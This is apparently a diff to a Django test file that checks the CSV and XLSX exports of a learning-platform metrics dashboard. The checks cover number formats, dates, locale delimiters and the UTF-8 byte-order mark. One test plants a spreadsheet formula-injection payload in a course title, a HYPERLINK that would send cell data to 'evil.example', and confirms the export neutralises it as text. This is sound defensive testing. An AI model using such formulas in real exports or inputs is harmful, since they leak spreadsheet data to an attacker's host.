@@ -15,6 +15,7 @@ from certificates.models import Certificate
 from courses.factories import build_course
 from courses.models import Enrolment, LessonCompletion
 from courses.roles import COURSE_MANAGERS, TRAINERS
+from lms.spreadsheets import Percentage
 from metrics import selectors
 from metrics.roles import ANALYSTS
 
@@ -139,9 +140,10 @@ def test_headline_figures(scenario):
     assert values["enrolments"] == 8 + 3 + 1  # the erased learner's enrolment counts
     assert values["withdrawn"] == "<5"  # one person
     assert values["completions"] == 6 + 5
-    assert values["completion_rate"] == f"{100 * 6 / 12:.0f} %"
+    assert values["completion_rate"] == Percentage(6 / 12)  # a number in files
+    assert str(values["completion_rate"]) == "50 %"
     assert values["certificates"] == 5  # the revoked one is not counted
-    assert values["median_days"] == "40.0"  # median of 6×40 days and 5×153 days
+    assert str(values["median_days"]) == "40.0"  # median of 6×40 and 5×153 days
     assert values["organisations"] == "<5"  # four studios
     assert values["assessments"] == 0
 
@@ -229,13 +231,70 @@ def test_exports_carry_the_filters_and_period(client, scenario):
     assert response["Content-Disposition"].endswith(
         'participation-headline-2026-01-01_2026-06-30.csv"'
     )
-    rows = dict(list(csv.reader(io.StringIO(response.content.decode())))[1:])
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
+    rows = dict(list(csv.reader(io.StringIO(text[1:])))[1:])
     assert rows["Enrolments"] == "8"
     response = client.get(url, {**params, "export": "xlsx", "table": "by_city"})
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    workbook = load_workbook(io.BytesIO(response.content))
+    assert workbook.sheetnames == ["By city"]
+    values = [[cell.value for cell in row] for row in workbook.active.iter_rows()]
     assert values[0][0] == "City"
     assert ["Gdańsk", 0, 0, 5, 0] in values
+
+
+def xlsx_cells(response) -> dict[str, list]:
+    """The first sheet's rows as {first cell: the cells after it}."""
+    workbook = load_workbook(io.BytesIO(response.content))
+    return {row[0].value: list(row[1:]) for row in workbook.active.iter_rows()}
+
+
+def test_exports_hold_numbers_dates_and_no_formulas(client, scenario):
+    scenario["a"].title = '=HYPERLINK("http://evil.example/?"&B3,"Pricing")'
+    scenario["a"].save_revision().publish()
+    client.force_login(analyst())
+    url = reverse("metrics_dashboard")
+    params = {"start": "2026-01-01", "end": "2026-06-30"}
+    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
+
+    by_course = client.get(url, {**params, "export": "xlsx", "table": "by_course"})
+    (title,) = [
+        row[0]
+        for row in load_workbook(io.BytesIO(by_course.content)).active.iter_rows()
+        if "HYPERLINK" in str(row[0].value)
+    ]
+    assert title.data_type == "s"  # text, not a formula
+    assert title.value == "'" + scenario["a"].title
+
+    headline = xlsx_cells(
+        client.get(url, {**params, "export": "xlsx", "table": "headline"})
+    )
+    rate = headline["Completion rate of enrolments in the period"][0]
+    assert rate.value == 0.5 and rate.number_format == "0%"
+    median = headline["Median days to complete"][0]
+    assert median.value == 40.0 and median.data_type == "n"
+    assert headline["Enrolments"][0].value == 12
+
+    monthly = load_workbook(
+        io.BytesIO(
+            client.get(url, {**params, "export": "xlsx", "table": "monthly"}).content
+        )
+    )
+    assert monthly.sheetnames == ["Per month"]
+    march = monthly.active["A4"]
+    assert march.is_date and march.value == datetime.datetime(2026, 3, 1)
+
+    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "sl"
+    response = client.get(url, {**params, "export": "csv", "table": "headline"})
+    text = b"".join(response.streaming_content).decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = dict(list(csv.reader(io.StringIO(text[1:]), delimiter=";"))[1:])
+    assert rows["Mediana dni do zaključka"] == "40,0"  # decimal comma
+    assert rows["Vpisi"] == "12"
+    by_course_csv = client.get(url, {**params, "export": "csv", "table": "by_course"})
+    text = b"".join(by_course_csv.streaming_content).decode("utf-8")
+    names = [row[0] for row in csv.reader(io.StringIO(text[1:]), delimiter=";")]
+    assert "'" + scenario["a"].title in names
 
 
 def test_only_analysts_and_superusers_see_participation(client, scenario):
